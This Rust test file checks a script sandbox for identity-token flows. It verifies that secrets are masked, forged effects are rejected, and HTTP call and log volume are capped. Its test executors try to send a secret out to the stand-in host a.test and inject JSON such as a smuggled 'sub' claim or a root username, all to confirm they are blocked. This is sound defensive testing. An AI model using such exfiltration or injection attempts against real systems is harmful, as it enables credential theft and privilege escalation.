use std::sync::Arc;

use portcullis_core::{
    Timestamp,
    flow::{FlowType, TriggerType},
    script::{HttpCall, Mutations, ScriptErrorKind, TestOptions},
    secret::{SecretName, SecretValue},
};

use super::*;
use crate::{FetchRequest, FetchResponse};

const SECRET: &str = "hunter2-hunter2";

/// What is left of a run's time.
const TIME: Duration = Duration::from_secs(1);

/// Does with a secret whatever lets one leave.
struct Leaky;

/// Has one secret, and one that cannot be read.
struct Home;

impl Executor for Leaky {
    fn execute(&mut self, job: &Job, outside: &mut dyn Outside) -> ActionRun {
        let secret = match outside.secret(&job.action.name) {
            Ok(secret) => secret.unwrap_or_default(),
            Err(text) => {
                let error = ScriptError::new(ScriptErrorKind::HostAbort, text);
                return ActionRun {
                    error: Some(error),
                    ..ActionRun::default()
                };
            }
        };
        let log = format!("{}{secret}", "x".repeat(1990));
        outside.log(LogLevel::Info, &log).unwrap();
        let request = FetchRequest {
            method: "POST".to_owned(),
            url: format!("https://user:{secret}@a.test/?key={secret}"),
            headers: vec![("X-Other".to_owned(), vec![secret.clone()])],
            body: Some(format!("{{\"key\":\"{secret}\"}}")),
        };
        let request = serde_json::to_string(&request).unwrap();
        let answer = outside.fetch(&request, TIME).unwrap_err();
        assert_eq!(answer.contains(SECRET), secret == SECRET, "scripts see all");
        let claim = format!(r#"{{"claim":{{"key":"c","value_json":"\"{secret}\"","result":1}}}}"#);
        outside.effect(&claim).unwrap();
        let mut error = ScriptError::new(ScriptErrorKind::Exception, format!("no: {secret}"));
        error.name.clone_from(&secret);
        error.stack = format!("at {secret}");
        error.thrown_json = Some(format!("\"{secret}\""));
        ActionRun {
            error: Some(error),
            compat_warnings: vec![format!("odd: {secret}")],
            ..ActionRun::default()
        }
    }
}

impl World for Home {
    fn fetch(&mut self, request: &FetchRequest, _: Duration) -> Result<FetchResponse, String> {
        Err(format!("no way to {}", request.url))
    }

    fn secret(&mut self, name: &SecretName) -> Result<Option<SecretValue>, String> {
        match name.as_str() {
            "known" => Ok(SecretValue::parse(SECRET).ok()),
            "broken" => Err("it is broken".to_owned()),
            _ => Ok(None),
        }
    }

    fn now(&mut self) -> Timestamp {
        Timestamp::from_micros(0)
    }
}

fn run(names: &[&str], test: Option<TestOptions>) -> TriggerResult {
    trigger(names, test).run(&mut Leaky, &mut Home)
}

fn trigger(names: &[&str], test: Option<TestOptions>) -> Trigger {
    let action = |name: &&str| ScriptAction {
        id: String::new(),
        name: (*name).to_owned(),
        script: Arc::from(""),
        timeout: Duration::ZERO,
        allowed_to_fail: true,
        is_active: true,
        sequence: 1,
    };
    let run = TriggerRun {
        test,
        ..TriggerRun::new(
            FlowType::CustomiseToken,
            TriggerType::PreUserinfoCreation,
            names.iter().map(action).collect(),
        )
    };
    Trigger::new(run).unwrap()
}

#[test]
fn no_secret_leaves_but_by_effects() {
    // the second one knows nothing of it, and gets no further either
    let result = run(&["known", "unknown"], None);
    let told = format!(
        "{:?}",
        result.results.iter().map(without_steps).collect::<Vec<_>>()
    );
    assert!(!told.contains("hunter"), "{told}");
    let first = &result.results[0];
    assert_eq!(first.logs[1].message, format!("{}***", "x".repeat(1990)));
    let call = &first.http_calls[0];
    assert_eq!(call.url, "https://***@a.test/?key=***");
    assert_eq!(call.request_body, br#"{"key":"***"}"#);
    assert_eq!(
        call.request_headers,
        [("X-Other".to_owned(), vec!["***".to_owned()])]
    );
    assert_eq!(first.compat_warnings, ["odd: ***"]);
    assert_eq!(
        result.mutations.claims[0].value_json,
        format!("\"{SECRET}\"")
    );
}

#[test]
fn what_is_only_tried_gets_placeholders() {
    for name in ["known", "broken", "unknown"] {
        let result = run(&[name], Some(TestOptions::default()));
        let claim = &result.mutations.claims[0].value_json;
        assert_eq!(*claim, format!("\"placeholder:{name}\""));
    }
    let result = run(&["no name"], Some(TestOptions::default()));
    assert_eq!(result.mutations.claims[0].value_json, "\"\"");
}

#[test]
fn a_secret_that_cannot_be_read_ends_the_action() {
    let result = run(&["broken"], None);
    let ActionOutcome::FailedAllowed(error) = &result.results[0].outcome else {
        panic!("{result:?}");
    };
    assert_eq!(error.message, "it is broken");
}

/// Says what no prelude says.
struct Broken(&'static str);

impl Executor for Broken {
    fn execute(&mut self, _: &Job, outside: &mut dyn Outside) -> ActionRun {
        let refused = outside.effect(self.0);
        assert!(refused.is_err(), "{}", self.0);
        ActionRun::default()
    }
}

#[test]
fn whoever_breaks_into_a_worker_does_what_scripts_can() {
    let name = "urn:zitadel:iam:org:project:roles";
    let reserved = format!(r#"{{"claim":{{"key":"{name}","value_json":"1","result":1}}}}"#);
    for effect in [
        r#"{"claim":{"key":"a","value_json":"1,\"sub\":2","result":1}}"#,
        r#"{"claim":{"key":"a","value_json":"1 2","result":1}}"#,
        reserved.leak(),
        r#"{"claim":{"key":"a","value_json":"1","result":9}}"#,
        r#"{"user_field":{"username":"root"}}"#,
        r#"{"user_grants":[{"project_id":"1"}]}"#,
        r#"{"attribute":{"name":"a","name_format":"","values":[]}}"#,
        r#"{"metadata_append":{"key":"a","value":""}}"#,
        r#"{"unknown":1}"#,
        "",
    ] {
        let result = trigger(&["f"], None).run(&mut Broken(effect), &mut Home);
        assert_eq!(result.mutations, Mutations::default(), "{effect}");
        assert_eq!(result.final_claims_json.as_deref(), Some("{}"), "{effect}");
    }
}

/// Calls until it is refused.
struct Caller;

impl Executor for Caller {
    fn execute(&mut self, _: &Job, outside: &mut dyn Outside) -> ActionRun {
        let long = FetchRequest {
            url: format!("https://a.test/{}", "x".repeat(100_000)),
            headers: vec![("X-Long".to_owned(), vec!["x".repeat(5_000)]); 101],
            ..FetchRequest::default()
        };
        let long = serde_json::to_string(&long).unwrap();
        let many = FetchRequest {
            headers: vec![("X-Many".to_owned(), vec!["x".repeat(10_000); 200])],
            ..FetchRequest::default()
        };
        let many = serde_json::to_string(&many).unwrap();
        let request = serde_json::to_string(&FetchRequest::default()).unwrap();
        for request in [&long, &many].into_iter().chain(vec![&long; 998]) {
            let refused = outside.fetch(request, TIME).unwrap_err();
            assert!(refused.starts_with("no way to"), "{refused}");
        }
        let refused = outside.fetch(&request, TIME).unwrap_err();
        assert_eq!(refused, "the action makes more than 1000 HTTP calls");
        ActionRun::default()
    }
}

/// Bytes that a call holds.
fn memory(call: &HttpCall) -> usize {
    let texts = [&call.method, &call.url].into_iter().chain(&call.error);
    let headers = call.request_headers.iter();
    let headers = headers.flat_map(|(name, values)| [name].into_iter().chain(values));
    let texts = texts
        .chain(headers)
        .map(|text| size_of::<String>() + text.capacity());
    texts.sum::<usize>() + call.request_body.capacity()
}

#[test]
fn calls_are_counted_and_cut() {
    let result = trigger(&["f"], None).run(&mut Caller, &mut Home);
    let calls = &result.results[0].http_calls;
    assert_eq!(calls.len(), 1000);
    let (first, second, last) = (&calls[0], &calls[1], &calls[999]);
    assert_eq!(first.url.len(), 2000);
    // as log lines are
    assert_eq!(first.error.as_ref().unwrap().len(), 1999);
    assert_eq!(first.request_headers.len(), 100);
    assert_eq!(first.request_headers[0].1[0].len(), 2000);
    assert_eq!(second.request_headers[0].1.len(), 100);
    // of all of them together little more than 1 MiB
    assert_eq!(
        (last.url.len(), last.error.as_ref().unwrap().len()),
        (200, 200)
    );
    assert!(last.request_headers.is_empty() && last.request_body.is_empty());
    assert!(calls.iter().map(memory).sum::<usize>() < 2 << 20);
}

#[test]
fn nothing_begins_when_the_caller_waits_no_more() {
    let mut late = trigger(&["f"], None);
    late.run.until = Some(Instant::now());
    let result = late.run(&mut Broken("never said"), &mut Home);
    let outcome = &result.results[0].outcome;
    assert!(matches!(outcome, ActionOutcome::NotRun), "{outcome:?}");
}

fn without_steps(result: &ActionResult) -> ActionResult {
    ActionResult {
        steps: Vec::new(),
        ..result.clone()
    }
}

/// Calls with nothing in many headers.
struct Hollow;

impl Executor for Hollow {
    fn execute(&mut self, _: &Job, outside: &mut dyn Outside) -> ActionRun {
        let request = FetchRequest {
            headers: vec![(String::new(), vec![String::new()]); 100],
            ..FetchRequest::default()
        };
        let request = serde_json::to_string(&request).unwrap();
        for _ in 0..1000 {
            outside.fetch(&request, TIME).unwrap_err();
        }
        ActionRun::default()
    }
}

#[test]
fn texts_without_anything_count_too() {
    let result = trigger(&["f"], None).run(&mut Hollow, &mut Home);
    let calls = &result.results[0].http_calls;
    assert_eq!(calls[0].request_headers.len(), 100);
    assert!(calls.iter().map(memory).sum::<usize>() < 2 << 20);
}

/// Tells nearly as much as one action may of each.
struct Talkative;

impl Executor for Talkative {
    fn execute(&mut self, _: &Job, outside: &mut dyn Outside) -> ActionRun {
        let long = "x".repeat(900_000);
        let claim = format!(r#"{{"claim":{{"key":"c","value_json":"\"{long}\"","result":1}}}}"#);
        let claimed = outside.effect(&claim);
        let line = "x".repeat(2000);
        let logged = (0..500).try_for_each(|_| outside.log(LogLevel::Info, &line));
        let request = FetchRequest {
            headers: vec![("X-Long".to_owned(), vec![line; 100])],
            ..FetchRequest::default()
        };
        let request = serde_json::to_string(&request).unwrap();
        for _ in 0..4 {
            outside.fetch(&request, TIME).unwrap_err();
        }
        let refusals = [claimed.err(), logged.err()].map(Option::unwrap_or_default);
        let text = refusals.join(";");
        let mut error = ScriptError::new(ScriptErrorKind::Exception, text);
        error.stack = "x".repeat(ERROR_BYTES_MAX);
        error.thrown_json = Some(format!("\"{}\"", "x".repeat(ERROR_BYTES_MAX - 2)));
        ActionRun {
            error: Some(error),
            ..ActionRun::default()
        }
    }
}

#[test]
fn what_all_actions_tell_is_counted_and_cut() {
    let result = trigger(&["f"; 12], None).run(&mut Talkative, &mut Home);
    let messages = result.results.iter().map(|it| match &it.outcome {
        ActionOutcome::FailedAllowed(error) => error.message.as_str(),
        other => panic!("{other:?}"),
    });
    let messages: Vec<_> = messages.collect();
    let effects = "the effects of all actions of the trigger take more than 4194304 bytes";
    let lines = "the log lines of all actions of the trigger take more than 4194304 bytes";
    assert_eq!(messages[..4], [";"; 4]);
    assert_eq!(messages[4], format!("{effects};{lines}"));
    let steps = result.results.iter().map(|it| it.steps.len());
    assert_eq!(steps.sum::<usize>(), 4);
    let logged = result.results.iter().flat_map(|it| &it.logs);
    let logged: usize = logged.map(|it| it.message.len()).sum();
    assert!((4_000_000..5_000_000).contains(&logged), "{logged}");
    let calls = result.results.iter().flat_map(|it| &it.http_calls);
    let calls: usize = calls.map(memory).sum();
    assert!((4_000_000..6_000_000).contains(&calls), "{calls}");
    let stacks = result.results.iter().map(|it| match &it.outcome {
        ActionOutcome::FailedAllowed(error) => error.stack.len(),
        _ => 0,
    });
    let stacks: Vec<_> = stacks.collect();
    assert_eq!(stacks[0], ERROR_BYTES_MAX);
    assert_eq!(stacks[11], SHORT_ERROR_BYTES_MAX);
}
